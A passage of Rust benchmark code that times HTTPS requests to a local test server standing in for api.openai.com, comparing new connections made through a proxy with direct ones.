        let _ = r.bytes().await.unwrap();
        times.push(t.elapsed());
    }
    println!("proxy, new client connection: {}", pct(times));
    let mut times = Vec::new();
    for _ in 0..300 {
        let c = reqwest::Client::builder()
            .resolve("api.openai.com", f.up.addr)
            .add_root_certificate(reqwest::Certificate::from_pem(f.up.ca_pem.as_bytes()).unwrap())
            .build()
            .unwrap();
        let t = std::time::Instant::now();
        let _ = c.get("https://api.openai.com/v1/x").send().await.unwrap().bytes().await;
        times.push(t.elapsed());
    }
    println!("direct, new client connection: {}", pct(times));
}
